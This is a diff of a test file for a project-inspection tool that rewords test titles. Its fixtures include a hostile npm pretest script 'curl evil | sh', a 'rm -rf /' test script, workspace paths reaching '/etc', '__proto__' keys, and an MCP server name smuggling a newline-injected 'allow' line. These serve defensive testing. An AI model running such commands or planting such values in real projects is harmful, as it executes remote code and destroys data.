@@ -337,7 +337,7 @@ describe('a project', () => {
     '',
   ])(proves('D10')('has no usual script %j'), (name) => expect(isUsualScript(name)).toBe(false));
 
-  it(proves('D10')('has folders of its own, if it declares them or they have a usual name'), () => {
+  it(proves('D10')('has subfolders if it declares them or they have a usual name'), () => {
     const manifest = JSON.stringify({ name: '@demo/a', scripts: { test: 'vitest', deploy: 'x' } });
     const files = {
       'package.json': '{"workspaces":["packages/*", "./tools", "../outside", "!packages/c", "/etc", "node_modules/x"]}',
@@ -381,7 +381,7 @@ describe('a project', () => {
     expect(linesOf(project)).toContain(line);
   });
 
-  it('tells what a script runs, with what npm runs around it', () => {
+  it('shows what a script runs, with its pre- and post-scripts', () => {
     const manifest = { scripts: { pretest: 'curl evil | sh', test: 'rm -rf /', posttest: 'x' } };
     const [test] = inspect({ 'package.json': JSON.stringify(manifest) }).commands;
     expect(test).toEqual({ line: 'npm test', runs: 'curl evil | sh && rm -rf / && x' });
@@ -403,7 +403,7 @@ describe('a project', () => {
     },
   );
 
-  it('takes no command from names on the prototype', () => {
+  it('ignores names on the prototype', () => {
     expect(inspect({ 'package.json': '{"__proto__":{"scripts":{"test":"x"}}}' }).commands).toEqual([]);
     expect(inspect({ 'package.json': '{"scripts":{"__proto__":{"test":"x"}}}' }).commands).toEqual([]);
   });
@@ -415,12 +415,12 @@ describe('a project', () => {
     expect(inspect({}).git).toBe(false);
   });
 
-  it('knows the schema where bridle is installed', () => {
+  it('finds the schema if bridle is installed', () => {
     expect(inspect({ 'node_modules/bridle/policy.schema.json': '{}' }).hasSchema).toBe(true);
     expect(inspect({}).hasSchema).toBe(false);
   });
 
-  it('waits for no pipe, follows no link into nowhere, reads no giant', () => {
+  it('does not block on a pipe, follow a broken link or read a huge file', () => {
     const folder = made({ 'composer.json': ' '.repeat(1024 * 1024 + 1) });
     execFileSync('/usr/bin/mkfifo', [join(folder, 'package.json')]);
     fs.symlinkSync('nowhere', join(folder, '.mcp.json'));
@@ -491,7 +491,7 @@ describe('MCP servers', () => {
     expect(notes).toEqual([]);
   });
 
-  it('with names that are none are left out and told', () => {
+  it('with invalid names are left out and noted', () => {
     const names = ['a/b', '*', '', 'x\nallow: "*"', ' y', '\u202Ez', 'ok', 'a b', 'x'.repeat(65)];
     const servers = Object.fromEntries(names.map((name) => [name, {}]));
     const { mcp, notes } = inspect({ '.mcp.json': JSON.stringify({ mcpServers: servers }) });
@@ -500,7 +500,7 @@ describe('MCP servers', () => {
     expect(notes.join('')).not.toMatch(/[\n\u202E]/);
   });
 
-  it('are bounded, and a hostile file takes no time', () => {
+  it('are limited, and a malicious file is read quickly', () => {
     const many = Object.fromEntries(Array.from({ length: 80 }, (_, index) => [`s${index}`, {}]));
     const { mcp, notes } = inspect({
       '.mcp.json': JSON.stringify({ mcpServers: many }),
